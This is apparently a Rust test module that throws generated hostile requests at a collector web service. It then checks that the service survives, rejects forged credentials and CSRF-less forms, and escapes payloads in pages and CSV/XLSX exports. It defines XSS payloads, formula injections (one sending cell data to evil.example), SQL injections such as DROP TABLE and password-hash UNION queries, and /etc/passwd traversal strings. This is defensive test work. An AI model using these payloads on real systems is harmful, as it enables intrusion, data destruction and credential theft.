//! Proof suite part: hostile input. A real `sverka-collector serve` gets
//! [`Budget::hostile_requests`] generated requests (fastrand with a printed seed, so a
//! run repeats) spread over every route of [`super::isolation::ROUTES`]: malformed,
//! truncated and wrongly typed JSON, deep nesting, huge arrays and strings, invalid
//! UTF-8, oversize bodies and gzip bombs, SQL injection, script and formula payloads,
//! path traversal and odd ids, forged and replayed host keys, session cookies and API
//! tokens, and forms posted without or with a wrong CSRF token.
//!
//! Counted: answers by class (2xx/3xx, 4xx, the rate limits' 429 apart, 5xx), the
//! collector dying or panicking, forged credentials or CSRF-less forms that were
//! accepted. Then valid reports full of script and formula payloads are accepted, an
//! administrator signs in and reads every page and every CSV and XLSX export: no
//! payload may reach HTML unescaped, and no CSV or XLSX cell may start with a formula
//! character. Headless Chromium finally opens the hostile PC's page: no script ran.
//!
//! Here: the payloads, the stage the run sets up, and the run. `generate.rs` makes the
//! requests and payload reports, `send.rs` sends and counts them, `read_back.rs` reads
//! the pages, exports, browser and database back.

mod generate;
mod read_back;
mod send;

use anyhow::bail;
use std::time::Instant;

use super::isolation::ROUTES;
use super::isolation::web::{self, Session};
use super::{Budget, Figure, Part};
use crate::real_collector::Collector;
use generate::gzip_zeros;
use read_back::{browser_check, check_pages_and_exports, database_intact};
use send::{Tally, hostile_request, report_hostile_hosts};

/// Script payloads: each sets `window.__pwned` or the title if it ever runs.
pub const SCRIPT_PAYLOADS: [&str; 4] = [
    "<script>window.__pwned=1;document.title='pwned'</script>",
    "<img src=x onerror=\"window.__pwned=2;document.title='pwned'\">",
    "\"><svg onload=window.__pwned=3>",
    "'><img src=x onerror=window.__pwned=4>",
];
/// What must never appear in HTML as it stands: an element made from a payload
/// (after breaking out of an attribute or not). A handler's name as escaped text is
/// harmless, and the dashboard's own markup has `"><svg` (its charts).
const RAW_HTML_MARKERS: [&str; 3] = ["<script>window.__pwned", "<img src=x", "<svg onload"];
/// Formula payloads, with every prefix a spreadsheet may run.
pub const FORMULA_PAYLOADS: [&str; 6] = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
];
const SQL_PAYLOADS: [&str; 6] = [
    "' OR '1'='1",
    "1; DROP TABLE hosts;--",
    "\" OR 1=1 --",
    "'); DELETE FROM reports; --",
    "1 UNION SELECT password_hash FROM users--",
    "%' AND 1=0 UNION SELECT NULL,NULL--",
];
const TRAVERSALS: [&str; 10] = [
    "../../../../etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "%2e%2e/%2e%2e/etc/passwd",
    "....//....//etc/passwd",
    "..\\..\\windows\\win.ini",
    "%00",
    "1%00",
    "1/../2",
    "%252e%252e%252f",
    "1;DROP%20TABLE%20hosts",
];
const ODD_IDS: [&str; 10] = [
    "-1",
    "0",
    "99999999999999999999999",
    "9223372036854775807",
    "1e3",
    "0x10",
    "%20 1",
    "1'OR'1'='1",
    "NaN",
    "%E2%80%AE1",
];

/// The collector and everything the run set up.
struct Stage {
    collector: Collector,
    region: i64,
    school: i64,
    secret: String,
    /// Keys of ordinary hosts, used in turn (each has its own rate limit budget).
    keys: Vec<(i64, String)>,
    admin: Session,
    admin_csrf: String,
    /// Cookies of a session that signed out (replayed cookies must not work).
    logged_out_cookie: String,
    revoked_token: String,
    valid_token: String,
    valid_report: Vec<u8>,
    gzip_bomb: Vec<u8>,
}

pub fn run(budget: &Budget) -> anyhow::Result<Vec<Figure>> {
    let seed = std::env::var("SVERKA_PROOF_SEED")
        .ok()
        .and_then(|text| text.parse().ok())
        .unwrap_or_else(|| fastrand::u64(..));
    eprintln!("hostile: seed {seed} (SVERKA_PROOF_SEED={seed} repeats it)");
    let mut rng = fastrand::Rng::with_seed(seed);
    let started = Instant::now();
    let mut stage = set_up(budget)?;
    let mut tally = Tally::default();
    // Valid reports full of payloads first, and the browser on them (it signs in,
    // which the sign-in attacks below would otherwise throttle).
    let hostile_hosts = report_hostile_hosts(&mut stage)?;
    let browser_ran_script = browser_check(&stage, hostile_hosts.first().map(|host| host.0))?;

    // Routes by weight: the agent API and forms take more of the budget.
    let mut weighted: Vec<(&'static str, &'static str)> = Vec::new();
    for (method, path) in ROUTES {
        let weight = match *path {
            "/api/v1/reports" => 30,
            "/api/v1/enroll" => 12,
            "/login" if *method == "POST" => 4,
            _ => 2,
        };
        for _ in 0..weight {
            weighted.push((method, path));
        }
    }
    // Every route first, then weighted at random.
    let mut order: Vec<(&'static str, &'static str)> = ROUTES.to_vec();
    while order.len() < budget.hostile_requests {
        order.push(weighted[rng.usize(..weighted.len())]);
    }
    for (index, route) in order.iter().enumerate() {
        hostile_request(&mut rng, &mut stage, *route, index, &mut tally)?;
    }
    let run_seconds = started.elapsed().as_secs_f64();

    // Did it survive?
    let alive = Session::new(&stage.collector.url())
        .get("/healthz")
        .is_ok_and(|answer| answer.status == 200 && answer.body == b"ok");
    let log = stage.collector.log();
    let panics = log.matches("panicked").count() as u64;
    let crashes = u64::from(!alive) + panics;
    let tables_intact = database_intact(&stage.collector);

    // Every page and export read back, with what the run added (organizations,
    // users, tokens, catalog entries and reports made of payloads).
    let neutral = check_pages_and_exports(&mut stage, &hostile_hosts)?;

    let covered = ROUTES
        .iter()
        .filter(|(method, path)| tally.per_route.get(&(*method, *path)).copied().unwrap_or(0) > 0)
        .count();
    let mut figures = vec![
        Figure::at_least(
            Part::Hostile,
            format!("generated requests (seed {seed}, {run_seconds:.0} s)"),
            tally.sent,
            budget.hostile_requests as u64,
        ),
        Figure::checked(
            Part::Hostile,
            "routes covered (agent API, dashboard, JSON API)",
            format!("{covered} / {}", ROUTES.len()),
            "all",
            covered == ROUTES.len(),
        ),
        Figure::count(Part::Hostile, "answered 2xx/3xx", tally.success),
        Figure::count(
            Part::Hostile,
            "answered 4xx (rate limits apart)",
            tally.client_errors,
        ),
        Figure::count(
            Part::Hostile,
            "answered 429 (per-host and sign-in limits)",
            tally.rate_limited,
        ),
        Figure::count(
            Part::Hostile,
            "oversize bodies cut off by the collector",
            tally.closed,
        ),
        Figure::at_most(Part::Hostile, "answered 5xx", tally.server_errors, 0),
        Figure::at_most(
            Part::Hostile,
            "crashes (collector died or panicked)",
            crashes,
            0,
        ),
        Figure::checked(
            Part::Hostile,
            "database intact after SQL injection",
            if tables_intact { "yes" } else { "no" },
            "yes",
            tables_intact,
        ),
        Figure::at_most(
            Part::Hostile,
            "forged or replayed keys, cookies, tokens accepted",
            tally.forged_accepted,
            0,
        ),
        Figure::at_most(
            Part::Hostile,
            "forms accepted without or with a wrong CSRF token",
            tally.csrf_accepted,
            0,
        ),
        Figure::at_least(
            Part::Hostile,
            "payloads shown (escaped) on pages and in exports",
            neutral.payloads_seen,
            1,
        ),
        Figure::count(
            Part::Hostile,
            "pages and exports read back",
            format!(
                "{} pages, {} CSV, {} XLSX",
                neutral.pages, neutral.csv, neutral.xlsx
            ),
        ),
        Figure::at_most(
            Part::Hostile,
            "payloads unneutralized in HTML, CSV or XLSX",
            neutral.unneutralized.len() as u64,
            0,
        ),
        Figure::checked(
            Part::Hostile,
            "script ran in Chromium on the hostile PC's page",
            if browser_ran_script { "yes" } else { "no" },
            "no",
            !browser_ran_script,
        ),
    ];
    for text in &neutral.unneutralized {
        eprintln!("hostile: UNNEUTRALIZED {text}");
    }
    for text in &tally.accepted {
        eprintln!("hostile: ACCEPTED {text}");
    }
    if crashes > 0 || tally.server_errors > 0 {
        let path = budget.artifacts.join("hostile-collector.log");
        std::fs::write(&path, &log)?;
        figures.push(Figure::count(
            Part::Hostile,
            "collector log",
            path.display(),
        ));
    }
    Ok(figures)
}

fn set_up(budget: &Budget) -> anyhow::Result<Stage> {
    // The stage enrolls up to 64 lab PCs and every payload PC from one address, and
    // the attack enrolls more: past the per-address enrollment throttle (60 at once,
    // tested in `brakes.rs` and the slow-clients part), most would answer 429 and the
    // stage could not be set.
    let collector = Collector::start_with_config(
        "[enrollment]\nper_address_burst = 100000.0\nper_address_per_minute = 100000.0\n",
    );
    let base = collector.url();
    let region = collector.add_org("Hostile region", "region", None);
    let school = collector.add_org("Hostile school", "school", Some(region));
    let secret = collector.secret(school);
    let password = web::password_file()?;
    web::add_user(&collector, &password, "admin", "administrator", None)?;
    web::add_user(
        &collector,
        &password,
        "leaver",
        "school_admin",
        Some(school),
    )?;
    let http = web::http_client();
    // Enough hosts that the per-host rate limit leaves most reports to the parsers.
    let host_count = (budget.hostile_requests / 100).clamp(6, 64);
    let mut keys = Vec::new();
    let valid_inventory = [web::package(
        "telegram-desktop",
        "4.6.5",
        "/var/lib/dpkg/status",
        None,
    )];
    for index in 0..host_count {
        let hostname = format!("lab-pc-{index:02}");
        let host = web::enroll(
            &http,
            &base,
            &secret,
            &format!("hostile-machine-{index:04}"),
            &hostname,
        )?;
        keys.push((host.id, host.key));
    }
    let valid_report = web::report_body("lab-pc-00", "proof", &valid_inventory, vec![]);
    let mut admin = Session::login(&base, "admin")?;
    let admin_csrf = admin.csrf()?;
    let revoked_token = admin.create_token("to-revoke")?;
    let valid_token = admin.create_token("kept")?;
    let revoked_id = revoked_token
        .trim_start_matches("sverka_pat_")
        .split('.')
        .next()
        .unwrap_or("0")
        .to_string();
    let revoke = admin.post_form(
        &format!("/tokens/{revoked_id}/revoke"),
        &[("csrf", &admin_csrf)],
    )?;
    if !(300..400).contains(&revoke.status) && revoke.status != 200 {
        bail!("could not revoke a token: {}", revoke.status);
    }
    let mut leaver = Session::login(&base, "leaver")?;
    let leaver_csrf = leaver.csrf()?;
    let logged_out_cookie = leaver.cookie_header();
    leaver.post_form("/logout", &[("csrf", &leaver_csrf)])?;
    Ok(Stage {
        collector,
        region,
        school,
        secret,
        keys,
        admin,
        admin_csrf,
        logged_out_cookie,
        revoked_token,
        valid_token,
        valid_report,
        gzip_bomb: gzip_zeros(64 * 1024 * 1024),
    })
}
